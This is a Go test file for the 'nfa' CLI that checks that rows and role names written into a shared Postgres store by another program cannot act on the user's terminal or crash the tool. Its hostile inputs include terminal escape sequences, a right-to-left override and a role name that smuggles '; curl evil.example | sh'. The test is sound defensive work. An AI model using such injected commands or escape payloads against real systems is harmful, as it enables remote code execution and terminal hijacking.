//go:build unix

package main

import (
	"regexp"
	"strings"
	"testing"

	"github.com/nfa-cli/nfa/internal/llm/llmtest"
	"github.com/nfa-cli/nfa/internal/postgres/postgrestest"
)

// Rows of a shared store that another program wrote, and roles with hostile names, act on no terminal, crash
// nothing, and make no endless error message.
func TestStore_RowsOfOthersActOnNothing(t *testing.T) {
	server, err := postgrestest.Start()
	if err != nil {
		t.Skip(err)
	}
	t.Cleanup(server.Stop)
	model := llmtest.StartServer(llmtest.Answers(llmtest.Say("Fine."))...)
	t.Cleanup(model.Close)
	tr := newTour(t, model)
	must := func(args ...string) {
		t.Helper()
		if code, out := tr.runCommand("", args...); code != exitOK {
			t.Fatalf("nfa %q = %d, %s", args, code, out)
		}
	}
	server.Exec(t, "postgres", "CREATE DATABASE nfa")
	must("store", "init", server.URL("postgres", "nfa"))
	const hostileRole = `"x` + "\x1b]0;owned\x07\u202e" + `; curl evil.example | sh"`
	server.Exec(t, "nfa", "CREATE ROLE anna LOGIN; GRANT nfa_users TO anna; CREATE ROLE "+hostileRole+" LOGIN; GRANT nfa_users TO "+hostileRole)
	must("journal", "record", "buy", "AAPL", "--thesis", "cheap", "--disproof", "dear", "--benchmark", "none", "--yes")
	must("alerts", "add", "AAPL", "below", "150")
	t.Setenv("NFA_STORE", server.URL("anna", "nfa"))
	must("store", "copy")
	must("portfolio", "import", "book.csv", "--yes")
	must("watchlist", "add", "AAPL", "--note", "fine", "--yes")
	must("ask", "hi")
	server.Exec(t, "nfa", "INSERT INTO nfa.share VALUES ('anna', 'x\x1b]0;owned\x07', 'view'), ('x\x1b]0;owned\x07\u202e; curl evil.example | sh', 'anna', 'edit')")
	if _, out := tr.runCommand("", "store"); !regexp.MustCompile(`--owner 'x[^']*; curl evil.example \| sh'`).MatchString(out) {
		t.Errorf("store = %s, want the name quoted in the command", out)
	}

	const hostile = "E'x\\x1b]0;owned\\x07\\x1b[2J\u009b31m\u202eevil'"
	reads := [][]string{{"portfolio"}, {"portfolio", "--json"}, {"portfolio", "list"}, {"--owner", "all", "portfolio"}, {"watchlist"}, {"journal"}, {"alerts"}, {"alerts", "run"}, {"sessions", "list"}, {"doctor"}}
	for _, change := range []string{
		"nfa.session SET id = " + hostile, "nfa.session SET title = " + hostile + ", model = " + hostile + ", agent = " + hostile,
		"nfa.transactions SET note = " + hostile + ", symbol = " + hostile + ", name = " + hostile, "nfa.transactions SET quantity = -1e3000", "nfa.transactions SET amount = 'NaN'",
		"nfa.account SET cash = repeat('A', 200000)", "nfa.watch SET note = " + hostile, "nfa.decision SET thesis = " + hostile + ", confidence = 'NaN'",
		"nfa.alert_rule SET text = " + hostile,
	} {
		t.Run(change, func(t *testing.T) {
			table, _, _ := strings.Cut(change, " ")
			server.Exec(t, "nfa", "CREATE TABLE before AS TABLE "+table)
			server.Exec(t, "nfa", "SET session_replication_role = replica; UPDATE "+change)
			for _, args := range reads {
				if code, out := tr.runCommand("", args...); code > exitNoData || len(out) > 100_000 {
					t.Errorf("nfa %q = %d, %d bytes: %.300s", args, code, len(out), out)
				}
			}
			server.Exec(t, "nfa", "SET session_replication_role = replica; DELETE FROM "+table+"; INSERT INTO "+table+" OVERRIDING SYSTEM VALUE SELECT * FROM before; DROP TABLE before")
		})
	}
}
